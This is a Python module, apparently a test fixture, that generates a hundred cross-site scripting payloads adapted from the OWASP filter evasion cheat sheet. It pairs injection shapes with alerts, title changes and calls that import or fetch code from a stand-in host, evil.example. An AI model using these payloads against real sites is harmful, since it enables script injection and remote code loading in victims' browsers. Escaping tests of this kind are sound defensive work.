"""A hundred texts that become code wherever somebody forgets to escape them.

After https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html; each would open a
dialog, ask another host for something, or change the page's title.
"""

from __future__ import annotations

RUNS = ("alert(1)", "document.title='run'", "import('//evil.example/x.js')", "fetch('//evil.example')")
SHAPES = (
    "<script>{run}</script>",
    "</script><script>{run}</script>",
    '"><script>{run}</script>',
    '\'><img src=x onerror="{run}">',
    '<svg onload="{run}"></svg>',
    "<svg><script>{run}</script></svg>",
    '<body onload="{run}">',
    '<details open ontoggle="{run}">',
    '<input autofocus onfocus="{run}">',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<a href="javascript:{run}">x</a>',
    '<form action="javascript:{run}"><button>x</button></form>',
    '<math><mi xlink:href="javascript:{run}">x</mi></math>',
    '" onmouseover="{run}" x="',
    "' onfocus='{run}' autofocus='",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</title><script>{run}</script>",
    "</pre></code><script>{run}</script>",
    '{{{{constructor.constructor("{run}")()}}}}',
    '{{% print("{run}") %}}',
    "${{{run}}}",
)
LOADS = (
    '<img src="//evil.example/x.png">',
    '<link rel="stylesheet" href="//evil.example/x.css">',
    '<style>@import "//evil.example/x.css";</style>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '<base href="//evil.example/">',
    '<object data="//evil.example/x"></object>',
    '<video src="//evil.example/x"></video>',
    '<script src="//evil.example/x.js"></script>',
)

PAYLOADS = (*(shape.format(run=run) for shape in SHAPES for run in RUNS), *LOADS)
